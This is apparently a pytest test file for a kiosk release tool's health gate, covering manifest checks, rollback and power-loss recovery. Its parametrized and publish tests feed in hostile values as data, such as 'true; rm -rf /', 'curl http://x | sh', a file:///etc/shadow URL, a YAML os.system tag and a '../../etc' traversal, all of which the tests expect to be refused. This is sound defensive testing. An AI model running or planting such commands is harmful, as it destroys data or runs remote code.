"""
The health gate of a release on a kiosk: the manifest's checks, the gate's
decision (keep or roll back), the pending state a power loss leaves, and the
master refusing a hostile manifest at publish time.
"""

import hashlib
import http.server
import io
import json
import os
import sys
import tarfile
import threading

import pytest
import sqlalchemy as sa
import yaml

from salt_kiosk.db import migrations, schema
from salt_kiosk.errors import KioskInputError
from salt_kiosk.node import delivery, release_health, release_install, release_stage
from salt_kiosk.releases import catalogue

PY = sys.executable

GOOD = {
    "health": {"cmd": ["/opt/kiosk/bin/selftest", "--quick"], "url": "http://127.0.0.1:8080/health", "timeout": 60},
    "pre_activate": ["systemctl", "stop", "kiosk-ui"],
    "post_activate": ["systemctl", "start", "kiosk-ui"],
}


def md5_of(data):
    return hashlib.md5(data).hexdigest()  # noqa: S324 - content fingerprint, not security


def make_release(path, files, manifest=None):
    """A .tar.gz with ``files`` and, when given, ``manifest`` (a dict, or raw text) as kiosk-release.yaml."""
    entries = dict(files)
    if manifest is not None:
        raw = manifest if isinstance(manifest, str) else yaml.safe_dump(manifest)
        entries[release_health.MANIFEST_NAME] = raw.encode()
    with tarfile.open(path, "w:gz") as archive:
        for name, body in entries.items():
            info = tarfile.TarInfo(name)
            info.size = len(body)
            archive.addfile(info, io.BytesIO(body))
    return md5_of(path.read_bytes())


def script(code):
    """A command running ``code`` in this Python (an argument list, as the gate wants)."""
    return [PY, "-c", code]


# A check that fails on a kiosk holding the marker file ``unhealthy`` next to its releases.
MARKER_CHECK = script("import os, sys; sys.exit('marker found' if os.path.exists('../unhealthy') else 0)")
# post_activate logs which release it started, as a service manager would start it.
POST_LOG = script("import os; open('../post.log', 'a').write(os.environ['KIOSK_RELEASE_VERSION'] + '\\n')")


@pytest.fixture
def kiosk(tmp_path):
    base = tmp_path / "releases"
    return {"kiosk": {"release_dir": str(base)}}


def install(opts, tmp_path, version, files, manifest=None, health=None, fire=None):
    path = tmp_path / f"app-{version}.tar.gz"
    md5 = make_release(path, files, manifest)
    return release_install.install(opts, version, md5, "app.tar.gz", source=str(path), health=health, fire=fire)


def base_of(opts):
    return release_install.release_dir(opts)


# -- the manifest ------------------------------------------------------------------


def test_a_good_manifest_is_read_as_written():
    manifest = release_health.parse_manifest(yaml.safe_dump(GOOD).encode())
    assert manifest == GOOD
    # Timeout defaults to 60; either check alone is enough.
    only_url = release_health.parse_manifest(b"health: {url: 'https://127.0.0.1/ok'}")
    assert only_url["health"] == {"cmd": None, "url": "https://127.0.0.1/ok", "timeout": 60}
    assert release_health.parse_manifest(b"") == {"health": None, "pre_activate": None, "post_activate": None}


@pytest.mark.parametrize(
    "manifest, message",
    [
        (
            {"health": {"cmd": "/opt/kiosk/bin/selftest --quick"}},
            r"health\.cmd '/opt/kiosk/bin/selftest --quick' is a string",
        ),
        ({"health": {"cmd": "true; rm -rf /"}}, "is a string.*never a shell string"),
        ({"health": {"cmd": ["sleep", 5]}}, r"health\.cmd\[1\] 5 is not a string"),
        ({"health": {"cmd": []}}, "is not a command"),
        ({"health": {"cmd": [""]}}, "empty program name"),
        ({"health": {"cmd": ["a\x00b"]}}, "no NUL"),
        ({"health": {"cmd": {"run": "x"}}}, "is not a command"),
        ({"health": {"url": "ftp://127.0.0.1/health"}}, "scheme 'ftp'"),
        ({"health": {"url": "file:///etc/shadow"}}, "scheme 'file'"),
        ({"health": {"url": "javascript:alert(1)"}}, "scheme 'javascript'"),
        ({"health": {"url": "http:///nohost"}}, "has no host"),
        ({"health": {"url": "http://127.0.0.1:99999/"}}, "not a usable URL"),
        ({"health": {"url": "http://127.0.0.1/a b"}}, "whitespace"),
        ({"health": {"cmd": ["true"], "timeout": -5}}, r"health\.timeout -5 is out of range.*1 to 3600"),
        ({"health": {"cmd": ["true"], "timeout": 0}}, "out of range"),
        ({"health": {"cmd": ["true"], "timeout": 86400 * 365}}, "out of range"),
        ({"health": {"cmd": ["true"], "timeout": True}}, "out of range"),
        ({"health": {"cmd": ["true"], "timeout": 1.5}}, "out of range"),
        ({"health": {"timeout": 30}}, "neither cmd nor url"),
        ({"health": {"cmd": ["true"], "shell": True}}, "unknown key.*'shell'"),
        ({"health": "selftest"}, "health 'selftest' is not a mapping"),
        ({"pre_activate": "systemctl stop kiosk-ui"}, "pre_activate 'systemctl stop kiosk-ui' is a string"),
        ({"post_activate": ["systemctl", None]}, r"post_activate\[1\] None is not a string"),
        ({"on_boot": ["reboot"]}, "unknown key.*'on_boot'"),
        (["health"], "is not a mapping"),
    ],
)
def test_hostile_manifests_are_refused_naming_the_bad_value(manifest, message):
    with pytest.raises(KioskInputError, match=message) as err:
        release_health.parse_manifest(yaml.safe_dump(manifest).encode())
    assert str(err.value).startswith("release manifest kiosk-release.yaml refused")


def test_manifest_that_is_not_yaml_or_too_large_is_refused():
    with pytest.raises(KioskInputError, match="not valid YAML"):
        release_health.parse_manifest(b"health: [unclosed")
    with pytest.raises(KioskInputError, match="at most 65536"):
        release_health.parse_manifest(b"#" * (release_health.MAX_MANIFEST_BYTES + 1))
    # safe_load: no Python objects from a manifest.
    with pytest.raises(KioskInputError, match="not valid YAML"):
        release_health.parse_manifest(b"health: !!python/object/apply:os.system ['true']")


def test_publish_overrides_replace_the_manifest_keys_one_by_one():
    manifest = release_health.check_manifest(GOOD)
    gate = release_health.gate_of(manifest, {"timeout": 5})
    assert gate["health"] == dict(GOOD["health"], timeout=5)
    gate = release_health.gate_of(None, {"cmd": ["true"]})
    assert gate == {
        "health": {"cmd": ["true"], "url": None, "timeout": 60},
        "pre_activate": None,
        "post_activate": None,
    }
    assert release_health.gate_of(None, None) is None
    assert release_health.check_overrides(None, None, None) == {}
    with pytest.raises(KioskInputError, match="health_cmd 'selftest --quick' is a string"):
        release_health.check_overrides("selftest --quick")
    with pytest.raises(KioskInputError, match="health_url 'ftp://x/' has the scheme 'ftp'"):
        release_health.check_overrides(health_url="ftp://x/")
    with pytest.raises(KioskInputError, match="health_timeout 0 is out of range"):
        release_health.check_overrides(health_timeout=0)
    with pytest.raises(KioskInputError, match="unknown key.*'shell'"):
        release_health.check_settings({"cmd": ["true"], "shell": True})


# -- the check -----------------------------------------------------------------------


def test_commands_run_without_a_shell_and_with_a_timeout(tmp_path):
    # A shell would expand the variable; an argument list passes it on as it is.
    ok, output = release_health.run_command(["echo", "$HOME;", "id"], 10, str(tmp_path))
    assert ok and output.strip() == "$HOME; id"
    ok, output = release_health.run_command(script("import time; time.sleep(30)"), 1, str(tmp_path))
    assert not ok and "still running after 1 s, killed" in output
    ok, output = release_health.run_command(["/nonexistent/selftest"], 5, str(tmp_path))
    assert not ok and "could not be run" in output
    ok, output = release_health.run_command(script("print('x' * 100000); raise SystemExit(3)"), 10, str(tmp_path))
    assert not ok and "exited with 3" in output and "characters cut" in output
    assert len(output) < release_health.OUTPUT_CAP + 200


class Health(http.server.BaseHTTPRequestHandler):
    answers = []

    def do_GET(self):  # noqa: N802 - the http.server API
        code = Health.answers.pop(0) if Health.answers else 200
        self.send_response(code)
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def health_server():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Health)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/health"
    server.shutdown()
    server.server_close()


def test_the_check_is_tried_until_it_passes_or_time_is_up(tmp_path, health_server, monkeypatch):
    monkeypatch.setattr(release_health, "RETRY_INTERVAL", 0.05)
    Health.answers = [503, 500]
    ok, output, tries = release_health.wait_healthy({"cmd": None, "url": health_server, "timeout": 10}, str(tmp_path))
    assert ok and tries == 3 and "answered 200" in output
    Health.answers = [503] * 1000
    ok, output, tries = release_health.wait_healthy({"cmd": None, "url": health_server, "timeout": 1}, str(tmp_path))
    assert not ok and tries > 1 and "answered 503" in output
    Health.answers = []
    both = {"cmd": script("raise SystemExit('selftest: no printer')"), "url": health_server, "timeout": 1}
    ok, output, _tries = release_health.wait_healthy(both, str(tmp_path))
    assert not ok and "no printer" in output


# -- the gate on a kiosk -------------------------------------------------------------------


def test_a_healthy_release_is_kept(kiosk, tmp_path):
    install(kiosk, tmp_path, "1.0", {"app": b"v1"})
    manifest = {"health": {"cmd": MARKER_CHECK, "timeout": 5}, "post_activate": POST_LOG}
    done = install(kiosk, tmp_path, "2.0", {"app": b"v2"}, manifest)
    base = base_of(kiosk)
    assert done["changed"] and done["previous"] == "1.0" and done["health"] is not None
    assert os.readlink(os.path.join(base, "current")) == "2.0"
    assert not os.path.exists(os.path.join(base, release_install.PENDING_NAME))
    state = release_install.current(kiosk)
    assert state["version"] == "2.0" and state["last_attempt"]["ok"] is True and state["pending"] is None
    # When the fetch started and how long it took (bench/rollout.py reads the relays' load from these).
    assert state["last_attempt"]["started"] and state["last_attempt"]["fetch_seconds"] >= 0
    assert open(os.path.join(base, "post.log")).read() == "2.0\n"


def test_a_release_failing_its_check_rolls_back_by_itself(kiosk, tmp_path):
    install(kiosk, tmp_path, "1.0", {"app": b"v1"})
    base = base_of(kiosk)
    open(os.path.join(base, "unhealthy"), "w").close()
    fired = []
    manifest = {"health": {"cmd": MARKER_CHECK, "timeout": 1}, "post_activate": POST_LOG}
    with pytest.raises(release_install.ReleaseRolledBack, match=release_install.ROLLED_BACK_MARK) as err:
        install(kiosk, tmp_path, "2.0", {"app": b"v2"}, manifest, fire=lambda data, tag: fired.append((tag, data)))
    assert "to 1.0" in str(err.value) and "marker found" in str(err.value)
    assert os.readlink(os.path.join(base, "current")) == "1.0"
    assert open(os.path.join(base, "current", "app"), "rb").read() == b"v1"
    # post_activate ran for the new release, then again for the old one.
    assert open(os.path.join(base, "post.log")).read() == "2.0\n2.0\n"
    assert not os.path.exists(os.path.join(base, "2.0")) and not os.path.exists(
        os.path.join(base, ".kiosk-pending.json")
    )
    attempt = release_install.current(kiosk)["last_attempt"]
    assert attempt["rolled_back"] is True and attempt["ok"] is False and attempt["version"] == "2.0"
    assert attempt["previous"] == "1.0" and "marker found" in attempt["error"]
    assert [tag for tag, _ in fired] == ["kiosk/release/rolled_back"]
    assert (
        fired[0][1]["version"] == "2.0" and fired[0][1]["previous"] == "1.0" and "marker found" in fired[0][1]["reason"]
    )


def test_a_failing_first_release_leaves_no_current(kiosk, tmp_path):
    base = base_of(kiosk)
    os.makedirs(base)
    open(os.path.join(base, "unhealthy"), "w").close()
    with pytest.raises(release_install.ReleaseRolledBack, match="rolled back to no release"):
        install(kiosk, tmp_path, "1.0", {"app": b"v1"}, health={"cmd": MARKER_CHECK, "timeout": 1})
    assert not os.path.lexists(os.path.join(base, "current"))
    assert release_install.current(kiosk)["version"] is None


def test_failing_post_activate_rolls_back_without_waiting_for_the_check(kiosk, tmp_path):
    install(kiosk, tmp_path, "1.0", {"app": b"v1"})
    manifest = {
        "health": {"cmd": ["true"], "timeout": 3600},
        "post_activate": script("raise SystemExit('ui did not start')"),
    }
    with pytest.raises(release_install.ReleaseRolledBack, match="(?s)post_activate failed.*ui did not start"):
        install(kiosk, tmp_path, "2.0", {"app": b"v2"}, manifest)
    assert release_install.current(kiosk)["version"] == "1.0"


def test_failing_pre_activate_switches_nothing(kiosk, tmp_path):
    install(kiosk, tmp_path, "1.0", {"app": b"v1"})
    manifest = {"pre_activate": script("raise SystemExit('cannot stop ui')"), "post_activate": POST_LOG}
    with pytest.raises(
        delivery.KioskDeliveryError, match="(?s)pre_activate failed, current stays at 1.0.*cannot stop ui"
    ):
        install(kiosk, tmp_path, "2.0", {"app": b"v2"}, manifest)
    base = base_of(kiosk)
    assert os.readlink(os.path.join(base, "current")) == "1.0" and not os.path.exists(os.path.join(base, "2.0"))
    # What pre_activate may have stopped is started again.
    assert open(os.path.join(base, "post.log")).read() == "2.0\n"
    assert release_install.current(kiosk)["last_attempt"]["rolled_back"] is False


def test_a_hostile_manifest_in_the_archive_installs_nothing(kiosk, tmp_path):
    install(kiosk, tmp_path, "1.0", {"app": b"v1"})
    with pytest.raises(KioskInputError, match="health.cmd 'selftest; reboot' is a string"):
        install(kiosk, tmp_path, "2.0", {"app": b"v2"}, {"health": {"cmd": "selftest; reboot"}})
    base = base_of(kiosk)
    assert os.readlink(os.path.join(base, "current")) == "1.0"
    assert sorted(n for n in os.listdir(base) if not n.startswith(".kiosk-last")) == ["1.0", "current"]
    assert "is a string" in release_install.current(kiosk)["last_attempt"]["error"]
    # Bad publish-time settings are refused before anything is fetched.
    with pytest.raises(KioskInputError, match="health_url"):
        release_install.install(kiosk, "3.0", "0" * 32, "app.tar.gz", source="/never/read", health={"url": "file:///"})


class PowerLoss(BaseException):
    """The kiosk loses power: nothing after this point runs."""


@pytest.mark.parametrize("healthy", [True, False])
def test_power_lost_during_the_gate_is_decided_at_the_next_start(kiosk, tmp_path, monkeypatch, healthy):
    install(kiosk, tmp_path, "1.0", {"app": b"v1"})
    base = base_of(kiosk)

    def lose_power(*_args, **_kwargs):
        raise PowerLoss()

    with monkeypatch.context() as patch:
        patch.setattr(release_health, "wait_healthy", lose_power)
        with pytest.raises(PowerLoss):
            install(kiosk, tmp_path, "2.0", {"app": b"v2"}, {"health": {"cmd": MARKER_CHECK, "timeout": 1}})
    # What the disk holds after the power loss: the new release current, the decision pending.
    assert os.readlink(os.path.join(base, "current")) == "2.0"
    pending = json.load(open(os.path.join(base, release_install.PENDING_NAME)))
    assert pending["version"] == "2.0" and pending["previous"] == "1.0"
    assert release_install.current(kiosk)["pending"]["version"] == "2.0"
    if not healthy:
        open(os.path.join(base, "unhealthy"), "w").close()
        with pytest.raises(release_install.ReleaseRolledBack):
            release_install.finish_pending(kiosk)
        assert os.readlink(os.path.join(base, "current")) == "1.0"
    else:
        done = release_install.finish_pending(kiosk)
        assert done["version"] == "2.0" and os.readlink(os.path.join(base, "current")) == "2.0"
    assert release_install.current(kiosk)["pending"] is None
    assert release_install.finish_pending(kiosk) is None


def test_a_tampered_pending_record_is_dropped_not_followed(kiosk, tmp_path):
    install(kiosk, tmp_path, "1.0", {"app": b"v1"})
    base = base_of(kiosk)
    with open(os.path.join(base, release_install.PENDING_NAME), "w") as handle:
        json.dump({"version": "2.0", "md5": "0" * 32, "folder": "../../etc", "previous": "1.0", "gate": {}}, handle)
    assert release_install.finish_pending(kiosk) is None
    assert os.readlink(os.path.join(base, "current")) == "1.0"
    assert not os.path.exists(os.path.join(base, release_install.PENDING_NAME))


# -- the master ---------------------------------------------------------------------------


class Stager:
    def __init__(self):
        self.releases = []

    def __call__(self, opts, kstore, release, path, timeout, latest=False):
        self.releases.append(release)
        return {"staged": ["relay-e1"], "failed": {}, "silent": []}


def test_publish_refuses_a_hostile_manifest_and_records_nothing(opts, kstore, tmp_path):
    opts["kiosk"]["release_sources"] = [str(tmp_path)]
    make_release(tmp_path / "ui.tar.gz", {"app": b"v1"}, {"health": {"cmd": "curl http://x | sh"}})
    stager = Stager()
    with pytest.raises(KioskInputError, match="kiosk-release.yaml refused.*is a string"):
        catalogue.publish(opts, kstore, "1.0.0", str(tmp_path / "ui.tar.gz"), stager=stager)
    with pytest.raises(KioskInputError, match="health_timeout 99999 is out of range"):
        catalogue.publish(opts, kstore, "1.0.0", str(tmp_path / "ui.tar.gz"), stager=stager, health={"timeout": 99999})
    assert catalogue.list_releases(kstore) == [] and stager.releases == []
    store = catalogue.release_store(opts)
    assert not os.path.exists(os.path.join(store, "1.0.0"))


def test_publish_records_the_health_settings_and_stages_them(opts, kstore, tmp_path):
    opts["kiosk"]["release_sources"] = [str(tmp_path)]
    make_release(tmp_path / "ui.tar.gz", {"app": b"v1"}, GOOD)
    stager = Stager()
    health = {"cmd": ["/opt/kiosk/bin/selftest"], "timeout": 90}
    rel = catalogue.publish(opts, kstore, "1.0.0", str(tmp_path / "ui.tar.gz"), stager=stager, health=health)
    assert rel["health"] == health and stager.releases[0]["health"] == health
    assert catalogue.get_release(kstore, "1.0.0")["health"] == health
    with pytest.raises(KioskInputError, match="already published with the health settings"):
        catalogue.publish(opts, kstore, "1.0.0", str(tmp_path / "ui.tar.gz"), stager=stager)
    # The relay writes them into the manifest kiosks read for latest.
    relay = {"kiosk": {"release_root": str(tmp_path / "root")}}
    body = (tmp_path / "ui.tar.gz").read_bytes()
    release_stage.stage_local(relay, "1.0.0", str(tmp_path / "ui.tar.gz"), md5_of(body), "ui.tar.gz", health=health)
    latest = json.loads((tmp_path / "root" / "kiosk_releases" / "latest.json").read_text())
    assert latest["health"] == health
    with pytest.raises(KioskInputError, match="health.cmd"):
        release_stage.stage_local(
            relay, "1.0.1", str(tmp_path / "ui.tar.gz"), md5_of(body), "ui.tar.gz", health={"cmd": "reboot now"}
        )


def test_schema_13_adds_the_health_columns_to_existing_tables(kstore):
    legacy = {}
    for table, dropped in ((schema.releases, "health"), (schema.release_kiosks, "rolled_back")):
        legacy[table.name] = sa.Table(
            table.name,
            sa.MetaData(),
            *(
                sa.Column(c.name, c.type, primary_key=c.primary_key, nullable=c.nullable)
                for c in table.c
                if c.name != dropped
            ),
            **schema.MYSQL_TABLE,
        )
    with kstore.begin() as conn:
        for table in (schema.releases, schema.release_kiosks):
            table.drop(conn)
            legacy[table.name].create(conn)
        conn.execute(schema.schema_table.delete().where(schema.schema_table.c.version >= 13))
    assert migrations.upgrade(kstore.engine) == list(range(13, migrations.SCHEMA_VERSION + 1))
    with kstore.connect() as conn:
        inspector = sa.inspect(conn)
        assert "health" in {c["name"] for c in inspector.get_columns(schema.releases.name)}
        assert "rolled_back" in {c["name"] for c in inspector.get_columns(schema.release_kiosks.name)}
